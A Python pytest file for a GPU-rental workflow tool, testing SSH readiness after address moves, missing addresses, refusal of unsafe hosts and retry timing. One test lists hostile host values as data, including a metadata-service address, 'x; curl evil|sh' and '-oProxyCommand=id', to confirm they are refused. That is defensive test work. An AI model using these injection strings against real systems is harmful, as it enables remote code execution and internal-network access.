"""Where a login goes, not to a refused address, nor to one that the machine has left; and for how long it is tried."""

from collections.abc import Callable
from pathlib import Path

import pytest

from tests.relisted import Relisted
from tests.stack import ERAS, QUICK, Era, ShortcutProber, stack, text_of
from vastai_workflow.access.keys import SshKeys
from vastai_workflow.access.known_hosts import KnownHosts
from vastai_workflow.access.probe import SshProber
from vastai_workflow.simulator.clock import VirtualClock
from vastai_workflow.simulator.world import World
from vastai_workflow.steps.ports import ProbeReport, ProbeTarget

both_eras = pytest.mark.parametrize("era", ERAS)


@both_eras
@pytest.mark.requirement("READY-10")
async def test_after_a_move_that_nobody_here_caused_no_old_address_is_given_and_a_wait_finds_the_new_one(
    era: Era,
) -> None:
    market = Relisted()
    async with stack(era=era, transport_to=market.transport) as s:
        workflow_id, [machine] = await s.ready()
        market.at("203.0.113.250", 50022)
        [moved] = (await s.call("instance_status", instance_ids=[machine]))["instances"]
        assert (moved["readiness"], moved["ssh"]) == ("running", None)
        assert moved["reason"].startswith("moved: ")
        refusal = await s.refusal("export_inventory", format="ssh_config")
        assert "no machine of this server" in refusal["message"]
        waited = await s.call("wait_until_ready", workflow_id=workflow_id, timeout_s=2)
        [found] = waited["instances"]
        assert (found["readiness"], found["ssh"]["host"], found["ssh"]["port"]) == ("gpu_ok", "203.0.113.250", 50022)
        inventory = await s.call("export_inventory", format="ssh_config")
        assert "HostName 203.0.113.250" in inventory["text"]


@both_eras
@pytest.mark.requirement("READY-10")
async def test_a_machine_that_is_listed_without_an_address_for_once_has_not_moved(era: Era) -> None:
    market = Relisted()
    async with stack(era=era, transport_to=market.transport) as s:
        _, [machine] = await s.ready()
        market.shown = {"public_ipaddr": None, "ports": None, "ssh_host": None, "ssh_port": None}
        [row] = (await s.call("instance_status", instance_ids=[machine]))["instances"]
        assert row["readiness"] == "gpu_ok"
        assert row["ssh"] is not None


@pytest.mark.requirement("READY-9")
@pytest.mark.parametrize("host", ["169.254.169.254", "10.0.0.5", "x; curl evil|sh", "-oProxyCommand=id"])
async def test_no_command_to_log_in_is_given_for_an_address_that_is_refused(host: str, tmp_path: Path) -> None:
    market = Relisted()
    prober = SshProber(KnownHosts(tmp_path / "known_hosts"))
    keys = SshKeys(home=tmp_path, state_dir=tmp_path)
    async with stack(transport_to=market.transport, real_prober=prober, keys=keys) as s:
        workflow_id, _ = await s.rented()
        market.at(host, 22)
        s.clock.advance(60)
        result = await s.client.call_tool("wait_until_ready", {"workflow_id": workflow_id, "timeout_s": 3})
        assert result.structured_content is not None
        [row] = result.structured_content["instances"]
        assert row["ssh"] is None
        assert host not in text_of(result)


class FallsSilent(ShortcutProber):
    """Its first machine answers for once after `silent_s`, and no more; the second never does."""

    silent_s = 50.0

    def __init__(self, world: World, now: Callable[[], float]) -> None:
        super().__init__(world)
        self._now = now
        self._began: float | None = None
        self._first: int | None = None
        self.answered = False
        self.fell_silent: float | None = None

    async def probe(self, target: ProbeTarget, *, timeout_s: float) -> ProbeReport:
        """The truth once; then nothing."""
        self._began = self._began or self._now()
        self._first = self._first or target.instance_id
        if target.instance_id == self._first:
            if not self.answered and self._now() - self._began >= self.silent_s:
                self.answered = True
                return await super().probe(target, timeout_s=timeout_s)
            if self.answered and self.fell_silent is None:
                self.fell_silent = self._now()
        return ProbeReport("none", reason="refused", detail="nothing listens")


@pytest.mark.requirement("READY-3")
async def test_a_machine_that_falls_silent_after_it_was_ready_is_tried_for_two_whole_minutes_from_then() -> None:
    clock = VirtualClock()
    world = World(1, now=clock.now, offers=40, switches=QUICK)
    prober = FallsSilent(world, clock.now)
    async with stack(world=world, clock=clock, real_prober=prober) as s:
        workflow_id, _ = await s.rented(count=2, fleet="best_effort")
        s.clock.advance(60)
        waited = await s.call("wait_until_ready", workflow_id=workflow_id, timeout_s=300)
        assert [row["readiness"] for row in waited["instances"]] == ["failed", "failed"]
        assert prober.fell_silent is not None
        assert 118 <= s.clock.now() - prober.fell_silent < 130
